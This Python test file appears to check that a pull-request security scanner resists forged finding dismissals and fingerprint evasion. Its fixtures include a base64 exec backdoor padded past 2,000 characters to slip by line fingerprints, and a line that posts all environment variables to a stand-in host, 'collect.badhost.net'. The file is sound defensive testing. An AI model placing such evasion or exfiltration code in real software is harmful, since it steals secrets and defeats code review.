"""Dismissals a pull request cannot forge, and fingerprints that cover the whole code.

Row 4 of the attack table: the PR's author dismisses their own finding (and, when dismissals
were repository-wide, the same code was then green in anyone's later PR, and a dismissed
binary hid any later binary at its path). Row 5: a flagged line changed only after its 160th
character passed as the line that was already there.
"""

from __future__ import annotations

from typing import Any

from fakegithub.harness import Harness

from adversarial.adversarial_support import (
    AI_TRAILER,
    BACKDOOR,
    BACKDOOR_PATH,
    BASE_FILES,
    assert_not_green,
    latest_run,
    open_pr,
)

REPO = "acme/widgets"


def _findings(h: Harness, number: int, head: str) -> list[dict[str, Any]]:
    record = h.ctx.store.get_scan(REPO, number, head)
    assert record is not None, f"no scan of #{number} at {head[:7]}"
    return h.ctx.store.findings_for(record.id)


def _comment(h: Harness, number: int, body: str, user: str) -> None:
    _comment.next_id += 1  # type: ignore[attr-defined]
    payload = h.comment_payload(number, body, user=user, comment_id=_comment.next_id)  # type: ignore[attr-defined]
    assert h.deliver("issue_comment", payload).status_code == 202


_comment.next_id = 1000  # type: ignore[attr-defined]


def _dismiss_all(
    h: Harness, number: int, head: str, user: str, reason: str = "reviewed, ours"
) -> int:
    """``/gatehouse ignore`` every finding of the head's scan, one comment each."""
    fps = [f["fingerprint"] for f in _findings(h, number, head)]
    for fp in fps:
        _comment(h, number, f"/gatehouse ignore {fp[:12]} {reason}", user)
    return len(fps)


def _replies(h: Harness) -> list[str]:
    return [c["body"] for c in h.repo.issue_comments]


def _pr(
    h: Harness,
    files: dict[str, str | bytes],
    *,
    number: int,
    user: str,
    author: str,
    committer: str | None = None,
    base_files: dict[str, str] | None = None,
) -> str:
    """An AI-assisted PR opened by ``user`` whose one commit ``author`` wrote."""
    base = h.repo.commit(base_files or BASE_FILES, branch="main")
    head = h.repo.commit(files, parent=base, message=AI_TRAILER, author=author, committer=committer)
    h.repo.open_pull(number, base=base, head=head, user=user)
    assert h.deliver("pull_request", h.pr_payload("opened", number)).status_code == 202
    return head


def test_row4_the_pr_author_cannot_dismiss_their_own_findings(h: Harness) -> None:
    """Attack: the author (with write access) comments `/gatehouse ignore <fp> ok` on their PR."""
    h.repo.permissions["dev"] = "write"
    head = open_pr(h, {})
    assert latest_run(h, head)["conclusion"] == "failure"
    _dismiss_all(h, 1, head, "dev", "ok")
    assert_not_green(latest_run(h, head))
    assert len(h.repo.runs_for(head)) == 1  # nothing was dismissed, so nothing was re-scanned
    assert h.ctx.store.dismissals() == []
    reply = _replies(h)[0]
    assert reply.startswith("@dev Not dismissed: you opened this pull request")
    assert "another person with the `write` role" in reply


def test_row4_a_commit_author_or_committer_who_did_not_open_the_pr_cannot_dismiss(
    h: Harness,
) -> None:
    """Attack: a colleague with write access commits a backdoor to another's PR and dismisses it."""
    h.repo.permissions.update({"alice": "write", "mallory": "write", "carol": "write"})
    head = _pr(
        h, {BACKDOOR_PATH: BACKDOOR}, number=1, user="alice", author="mallory", committer="carol"
    )
    _dismiss_all(h, 1, head, "mallory")
    _dismiss_all(h, 1, head, "carol")
    assert_not_green(latest_run(h, head))
    assert h.ctx.store.dismissals() == []
    assert any("you are the author of commit" in r for r in _replies(h))
    assert any("you committed" in r for r in _replies(h))


def test_row4_a_reviewers_dismissal_does_not_make_the_same_code_green_in_a_later_pr(
    h: Harness,
) -> None:
    """Attack: the same code in someone else's later PR was green at once (repo-wide dismissals)."""
    head = open_pr(h, {})
    n = _dismiss_all(h, 1, head, "reviewer2")
    assert n >= 1 and latest_run(h, head)["conclusion"] == "success"  # a second person may dismiss
    assert "Dismissed by maintainers" in latest_run(h, head)["output"]["summary"]
    later = _pr(h, {BACKDOOR_PATH: BACKDOOR}, number=2, user="eve", author="eve")
    run = latest_run(h, later)
    assert_not_green(run)
    assert (
        run["conclusion"] == "failure"
        and "Dismissed by maintainers" not in run["output"]["summary"]
    )


def test_a_reviewer_dismisses_with_who_why_pr_and_head_then_revokes(h: Harness) -> None:
    """A legitimate dismissal is recorded in full; `/gatehouse unignore` puts the finding back."""
    head = open_pr(h, {})
    _dismiss_all(h, 1, head, "reviewer2", "decoded config, reviewed")
    assert latest_run(h, head)["conclusion"] == "success"
    top = max(
        _findings(h, 1, head),
        key=lambda f: ("low", "medium", "high", "critical").index(f["severity"]),
    )
    row = h.ctx.store.active_dismissals(REPO, 1)[top["fingerprint"]]
    assert (row["who"], row["reason"], row["pr"], row["head_sha"]) == (
        "reviewer2",
        "decoded config, reviewed",
        1,
        head,
    )
    _comment(
        h,
        1,
        f"/gatehouse unignore {top['fingerprint'][:12]} not what the reason said",
        "maintainer",
    )
    run = latest_run(h, head)
    assert_not_green(run)
    assert run["conclusion"] == "failure"
    assert top["fingerprint"] not in h.ctx.store.active_dismissals(REPO, 1)
    history = [
        (d["action"], d["who"])
        for d in h.ctx.store.dismissals()
        if d["fingerprint"] == top["fingerprint"]
    ]
    assert history == [("dismiss", "reviewer2"), ("revoke", "maintainer")]


def test_a_dismissal_does_not_hide_different_code_at_the_same_path(h: Harness) -> None:
    """Attack: after a reviewer dismissed the reviewed code, the author pushes other code there
    (here past the 2,000 characters of a line the old fingerprint read)."""
    padded = BACKDOOR.replace(
        "    exec(base64.b64decode(PAYLOAD))",
        '    note = "' + "n" * 2100 + '"; exec(base64.b64decode(PAYLOAD))',
    )
    head = open_pr(h, {BACKDOOR_PATH: padded})
    assert latest_run(h, head)["conclusion"] == "failure"
    _dismiss_all(h, 1, head, "reviewer2")
    assert latest_run(h, head)["conclusion"] == "success"
    swapped = padded.replace(
        "exec(base64.b64decode(PAYLOAD))", "exec(base64.b64decode(os.environ.get('P', PAYLOAD)))"
    )
    head2 = h.repo.commit({BACKDOOR_PATH: swapped}, parent=head, message=AI_TRAILER)
    h.repo.push(1, head2)
    assert h.deliver("pull_request", h.pr_payload("synchronize", 1)).status_code == 202
    run = latest_run(h, head2)
    assert_not_green(run)
    assert any(a["path"] == BACKDOOR_PATH for a in run["annotations"])


def test_a_binary_dismissal_does_not_hide_a_different_binary_at_that_path(h: Harness) -> None:
    """Attack: a dismissed binary hid any later binary at its path (fingerprinted by path alone)."""
    head = open_pr(
        h, {"bin/helper": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 64}, with_backdoor=False
    )
    assert latest_run(h, head)["conclusion"] == "failure"
    _dismiss_all(h, 1, head, "reviewer2", "vendored build of our helper")
    assert latest_run(h, head)["conclusion"] == "success"
    head2 = h.repo.commit(
        {"bin/helper": b"\x7fELF\x02\x01\x01\x00" + b"\x90" * 64}, parent=head, message=AI_TRAILER
    )
    h.repo.push(1, head2)
    assert h.deliver("pull_request", h.pr_payload("synchronize", 1)).status_code == 202
    run = latest_run(h, head2)
    assert_not_green(run)
    assert any(a["path"] == "bin/helper" for a in run["annotations"])


def test_the_policy_can_require_maintain_to_dismiss(h: Harness) -> None:
    """`dismiss_requires: maintain` on the default branch: a reviewer with write is refused."""
    base_files = dict(BASE_FILES, **{".github/gatehouse.yml": "dismiss_requires: maintain\n"})
    head = _pr(
        h, {BACKDOOR_PATH: BACKDOOR}, number=1, user="dev", author="dev", base_files=base_files
    )
    _dismiss_all(h, 1, head, "reviewer2")
    assert_not_green(latest_run(h, head))
    assert h.ctx.store.dismissals() == []
    assert "needs the `maintain` role" in _replies(h)[0]
    h.repo.permissions["lead"] = "maintain"
    _dismiss_all(h, 1, head, "lead")
    assert latest_run(h, head)["conclusion"] == "success"


def _exfil_line(host: str) -> str:
    return (
        "    requests.post(os.environ.get('METRICS_URL_" + "X" * 120 + f"', 'https://{host}/v1'), "
        "json=dict(os.environ))"
    )


def test_row5_a_flagged_line_changed_after_its_160th_character_is_reported(h: Harness) -> None:
    """Attack: a flagged line changed only after its 160th character sends to a new host."""
    top = "import os\n\nimport requests\n\n\ndef push():\n"
    assert _exfil_line("metrics.acmecorp.io").index("https://") > 160
    base_files = dict(
        BASE_FILES, **{"app/sync.py": top + _exfil_line("metrics.acmecorp.io") + "\n"}
    )
    head = _pr(
        h,
        {"app/sync.py": top + _exfil_line("collect.badhost.net") + "\n"},
        number=1,
        user="dev",
        author="dev",
        base_files=base_files,
    )
    run = latest_run(h, head)
    assert_not_green(run)
    flagged = {
        f["rule_id"]
        for f in _findings(h, 1, head)
        if (f["path"], f["start_line"]) == ("app/sync.py", 7)
    }
    assert "endpoint-exfiltration" in flagged, flagged  # it was dropped as "already there"
    assert any((a["path"], a["start_line"]) == ("app/sync.py", 7) for a in run["annotations"])
